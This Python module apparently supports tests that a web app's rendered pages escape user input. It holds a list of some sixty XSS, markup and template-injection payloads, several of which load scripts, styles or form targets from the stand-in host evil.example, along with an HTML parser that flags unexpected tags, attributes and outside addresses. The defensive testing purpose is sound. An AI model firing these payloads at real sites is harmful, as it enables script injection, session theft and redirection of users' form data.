"""What a page is made of, as a browser reads it; and texts that would like to be more than text."""

from __future__ import annotations

import re
from html.parser import HTMLParser

#: each would call xq() if it were taken for markup
PAYLOADS = (
    "<script>xq()</script>",
    "</textarea><script>xq()</script>",
    "</title><script>xq()</script>",
    "</style><script>xq()</script>",
    "<scr<script>ipt>xq()</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/xq.js></SCRIPT>",
    "<script\x20type=module>xq()</script>",
    "<script/x>xq()</script>",
    "<img src=x onerror=xq()>",
    "<IMG SRC=x OnErRoR=xq()>",
    "<img src=x onerror\x0d=xq()>",
    "<img/src=x/onerror=xq()>",
    "<img src=`x` onerror=xq()>",
    "<img src='x'onerror=xq()",
    '"><img src=x onerror=xq()>',
    "'><img src=x onerror=xq()>",
    '" onmouseover="xq()',
    "' onmouseover='xq()",
    '" autofocus onfocus="xq()" x="',
    "` onmouseover=`xq()",
    '" style="background:url(javascript:xq())',
    "<svg onload=xq()>",
    "<svg><script>xq()</script></svg>",
    "<svg><a xlink:href='javascript:xq()'><text>x</text></a></svg>",
    "<svg><animate onbegin=xq() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:xq()>",
    "<math><mi xlink:href='javascript:xq()'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xq()>",
    "<iframe src=javascript:xq()></iframe>",
    "<iframe srcdoc='<script>xq()</script>'></iframe>",
    "<object data=javascript:xq()>",
    "<embed src=javascript:xq()>",
    "<applet code=xq>",
    "<base href=//evil.example/xq/>",
    "<meta http-equiv=refresh content='0;url=javascript:xq()'>",
    "<link rel=stylesheet href=//evil.example/xq.css>",
    "<form action=//evil.example/xq><input type=submit>",
    "</form><form action=//evil.example/xq>",
    "<input autofocus onfocus=xq()>",
    "<button formaction=javascript:xq()>x</button>",
    "<select onfocus=xq() autofocus>",
    "<details open ontoggle=xq()>",
    "<video><source onerror=xq()></video>",
    "<audio src=x onerror=xq()>",
    "<body onload=xq()>",
    "<marquee onstart=xq()>",
    "<style>@import '//evil.example/xq.css';</style>",
    "<a href=javascript:xq()>x</a>",
    "<a href='java\tscript:xq()'>x</a>",
    "<a href=data:text/html,<script>xq()</script>>x</a>",
    "[x](javascript:xq())",
    "![x](x' onerror='xq())",
    "<javascript:xq()>",
    "**<b onclick=xq()>x</b>**",
    "# <h1 onclick=xq()>x</h1>",
    "- <li onclick=xq()>x</li>",
    "{{ xq() }} ${xq()} {% xq() %} <%= xq() %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "&lt;script&gt;xq()&lt;/script&gt;",
    "&#60;script&#62;xq()&#60;/script&#62;",
    "\\u003cscript\\u003exq()\\u003c/script\\u003e",
    "<!--><script>xq()</script>-->",
    "<![CDATA[<script>xq()</script>]]>",
    "<?xml version='1.0'?><script>xq()</script>",
    "http://x/tasks/a\"onclick=\"xq() http://x/cases/'onclick='xq()",
    "+ADw-script+AD4-xq()+ADw-/script+AD4-",
)
TAGS = frozenset(
    {"html", "head", "meta", "title", "link", "script", "body", "header", "nav", "main", "footer", "div", "section"}
    | {"aside", "form", "input", "button", "textarea", "select", "option", "label", "fieldset", "legend", "details"}
    | {"p", "h1", "h2", "h3", "h4", "ul", "ol", "li", "dl", "dt", "dd", "a", "span", "strong", "code", "time", "br"}
    | {"summary", "table", "caption", "thead", "tbody", "tr", "th", "td", "em"}
)
#: besides data-… and aria-…
NAMES = frozenset(
    {"charset", "name", "content", "rel", "href", "type", "src", "id", "class", "lang", "action", "method", "value"}
    | {"novalidate", "formnovalidate", "for", "role", "tabindex", "autocomplete", "spellcheck", "autocapitalize"}
    | {"rows", "inputmode", "datetime", "hidden", "checked", "selected", "disabled", "download", "autofocus"}
    | {"form", "open", "scope", "enctype", "accept", "multiple"}
)
ADDRESSES = frozenset({"href", "src", "action", "data-src", "data-nhsuk"})
_OURS = re.compile(r"(data|aria)-[a-z-]+")


class Page(HTMLParser):
    """`found`: what is not ours. `text`: all that is shown or stands in an input."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text = ""
        self._raw = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag not in TAGS or len(given) != len(attrs):
            self.found.append(f"<{tag}> {attrs}")
        self.found += [f"<{tag} {name}>" for name in given if name not in NAMES and not _OURS.fullmatch(name)]
        self.found += [f"{one}={given[one]}" for one in given.keys() & ADDRESSES if not _ours(given[one])]
        self.text += "\n" + given.get("value", "")
        if tag == "script" and not given.get("src", "").startswith("/assets/"):
            self.found.append("a script of its own")
        self._raw = tag

    def handle_endtag(self, tag: str) -> None:
        self._raw = ""

    def handle_data(self, data: str) -> None:
        if self._raw in {"script", "style"} and data.strip():
            self.found.append(f"in <{self._raw}>: {data}")
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")


def _ours(address: str) -> bool:
    return address == "" or address[0] == "#" or (address[0] == "/" and address[1:2] not in {"/", "\\"})
